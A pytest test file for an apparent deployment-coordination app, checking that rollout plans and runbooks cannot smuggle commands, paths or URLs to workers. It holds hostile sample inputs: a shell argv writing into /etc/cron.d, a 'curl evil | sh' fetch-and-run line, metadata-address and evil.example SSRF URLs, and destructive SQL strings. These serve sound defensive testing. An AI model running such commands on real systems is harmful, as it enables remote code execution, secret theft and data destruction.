"""No command, path or URL a war-room user types ever reaches a worker.

Routers and metric sources are defined by an administrator (like targets); a rollout
plan — typed on the plan page or carried by a runbook's ``warroom`` block — only names
them. Child processes see what their target defines, nothing of Warroom's environment.
"""

import json
import sys

import psycopg
import pytest
from django.core.exceptions import ValidationError
from django.test import Client

from checklists.importing import RunbookImportError, import_runbook
from checklists.models import RunbookVersion, StepAction
from deployments.services import InvalidChange
from rollouts import controller, runs
from rollouts.actions import target_url, validate_action
from rollouts.models import MetricSource, MetricSourceKind, RolloutPlan, Router, RouterKind, RunState, Target, TaskLogLine
from tests.rollouts.helpers import step_with_action, wait_for_run

NGINX_ATTACK = {
    "kind": "nginx",
    "upstream_file": "/etc/cron.d/owned",
    "upstream_name": "app",
    "stable_server": "127.0.0.1:1",
    "canary_server": "127.0.0.1:2",
    "test_argv": ["/bin/sh", "-c", "id > /tmp/owned"],
    "reload_argv": ["true"],
}


def _plan(router, gates=()):
    stages = [{"weight": 10, "hold": 60}, {"weight": 100, "hold": 0}]
    return {"router": router, "sample": 5, "stages": stages, "gates": list(gates)}


@pytest.mark.django_db
def test_a_plan_carrying_a_router_command_or_path_is_refused(crew, tmp_path):
    deployment, people = crew
    with pytest.raises(InvalidChange) as caught:
        controller.define_plan(deployment, _plan(NGINX_ATTACK), actor=people["lead"])
    message = str(caught.value)
    for key in ("upstream_file", "test_argv", "reload_argv"):
        assert key in message
    assert "defined by an administrator" in message
    assert not RolloutPlan.objects.filter(deployment=deployment).exists()


@pytest.mark.django_db
def test_a_plan_carrying_a_webhook_address_or_metric_url_is_refused(crew):
    deployment, people = crew
    webhook = {"kind": "webhook", "url": "http://169.254.169.254/latest", "secret_env": "DJANGO_SECRET_KEY"}
    with pytest.raises(InvalidChange) as caught:
        controller.define_plan(deployment, _plan(webhook), actor=people["lead"])
    assert "router: url, secret_env cannot be given in a plan" in str(caught.value)
    gate = {"name": "errors", "source": "http_json", "url": "http://169.254.169.254/latest", "path": "x", "threshold": 1}
    with pytest.raises(InvalidChange) as caught:
        controller.define_plan(deployment, _plan("manual", [gate]), actor=people["lead"])
    assert "gates[1].url cannot be given in a plan" in str(caught.value)
    assert not RolloutPlan.objects.filter(deployment=deployment).exists()


@pytest.mark.django_db
def test_a_plan_names_administrator_defined_router_and_source(crew, monkeypatch):
    deployment, people = crew
    monkeypatch.setenv("EDGE_SECRET", "x")
    Router.objects.create(name="edge", kind=RouterKind.WEBHOOK, url="http://127.0.0.1:9/route", secret_env="EDGE_SECRET")
    MetricSource.objects.create(name="prom", kind=MetricSourceKind.PROMETHEUS, url="http://127.0.0.1:9090")
    gate = {"name": "error_rate", "source": "prom", "query": "up", "threshold": 1}
    plan = controller.define_plan(deployment, _plan("edge", [gate]), actor=people["lead"])
    assert plan.router_def.name == "edge" and plan.router == RouterKind.WEBHOOK
    saved = plan.gates.get()
    assert saved.source_def.name == "prom" and saved.source_config == {"query": "up"}


@pytest.mark.django_db
def test_the_plan_page_refuses_the_attack_and_writes_nothing(crew, tmp_path):
    """The reported attack: a lead saves a plan whose nginx router runs a shell."""
    deployment, people = crew
    client = Client()
    client.force_login(people["lead"])
    attack = dict(NGINX_ATTACK, upstream_file=str(tmp_path / "upstream.conf"), test_argv=["/bin/sh", "-c", f"id > {tmp_path}/x"])
    response = client.post(f"/deployments/{deployment.pk}/rollout/plan/", {"plan": json.dumps(_plan(attack))})
    assert response.status_code == 400
    assert "defined by an administrator" in response.content.decode()
    assert not RolloutPlan.objects.filter(deployment=deployment).exists()
    assert list(tmp_path.iterdir()) == []


RUNBOOK_WITH_ATTACK = """# Release

## Deployment

### Step 1: Canary
**Responsible:** DevOps

```warroom
{"action": "rollout",
 "router": {"kind": "nginx",
            "upstream_file": "/etc/nginx/conf.d/up.conf",
            "test_argv": ["/bin/sh", "-c", "curl evil | sh"]},
 "stages": [{"weight": 100, "hold": 0}]}
```

- [ ] Canary healthy
"""


@pytest.mark.django_db
def test_import_refuses_a_warroom_block_carrying_a_router_naming_the_line():
    with pytest.raises(RunbookImportError) as caught:
        import_runbook(RUNBOOK_WITH_ATTACK.encode(), filename="attack.md")
    # Line 11 holds "upstream_file" (counted by hand: the fence is line 8).
    assert caught.value.line == 11
    assert "defined by an administrator" in str(caught.value)
    assert not RunbookVersion.objects.exists()


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data",
        "{base_url}@evil.example/x",
        "{base_url}//evil.example/x",
        "//evil.example/x",
        "health",
        "{base_url}{base_url}/x",
    ],
)
def test_smoke_checks_name_a_path_on_their_target_only(url):
    with pytest.raises(ValidationError):
        validate_action(StepAction.SMOKE, {"checks": [{"type": "http", "url": url}]})


def test_a_check_path_cannot_leave_the_targets_address():
    target = Target(name="app", base_url="http://app.internal:8000/api")
    assert target_url(target, "/health") == "http://app.internal:8000/api/health"
    assert target_url(Target(name="app", base_url="http://app.internal:8000"), "@evil.example/x") is None
    assert target_url(Target(name="none"), "/health") is None


pytestmark_real = pytest.mark.django_db(transaction=True)


@pytestmark_real
def test_a_targets_command_sees_only_what_the_target_defines(crew, celery_worker, make_target, process_env):
    """The worker has DATABASE_URL, REDIS_URL and secrets; the migration it runs sees none of them."""
    deployment, people = crew
    assert "DATABASE_URL" in process_env and "REDIS_URL" in process_env
    target = make_target(
        migrate_argv=[sys.executable, "-c", "import os; print('ENV', sorted(os.environ)); print('MODE', os.environ['APP_MODE'])"],
        migrate_env={"APP_MODE": "canary"},
    )
    runs.bind_target(deployment, people["lead"], target)
    step = step_with_action(deployment, StepAction.MIGRATE)
    run = wait_for_run(runs.start_run(step.pk, people["devops"]).pk)
    assert run.state == RunState.SUCCEEDED, run.error
    log = "\n".join(TaskLogLine.objects.filter(run=run).values_list("text", flat=True))
    names = log.split("ENV ", 1)[1].splitlines()[0]
    assert "MODE canary" in log
    for secret in ("DATABASE_URL", "REDIS_URL", "DJANGO_SECRET_KEY", "WARROOM_DEMO_ROUTER_SECRET"):
        assert secret not in names
    assert "'APP_MODE'" in names and "'PATH'" in names


@pytestmark_real
def test_sql_smoke_checks_cannot_write(crew, celery_worker, target_db, make_target):
    deployment, people = crew
    target = make_target(target_db)
    runs.bind_target(deployment, people["lead"], target)
    step = step_with_action(
        deployment,
        StepAction.SMOKE,
        {
            "checks": [
                {"type": "sql", "name": "delete", "query": "DELETE FROM audit RETURNING 1"},
                {"type": "sql", "name": "two statements", "query": "SELECT 1; DROP TABLE audit"},
                {"type": "sql", "name": "commit first", "query": "COMMIT; DELETE FROM audit"},
            ]
        },
    )
    run = wait_for_run(runs.start_run(step.pk, people["devops"]).pk)
    assert run.state == RunState.FAILED
    details = {c["name"]: c["detail"] for c in run.result["checks"]}
    assert "read-only transaction" in details["delete"]
    assert "multiple commands" in details["two statements"] and "multiple commands" in details["commit first"]
    with psycopg.connect(target_db) as conn:
        assert conn.execute("SELECT count(*) FROM audit").fetchone()[0] == 10
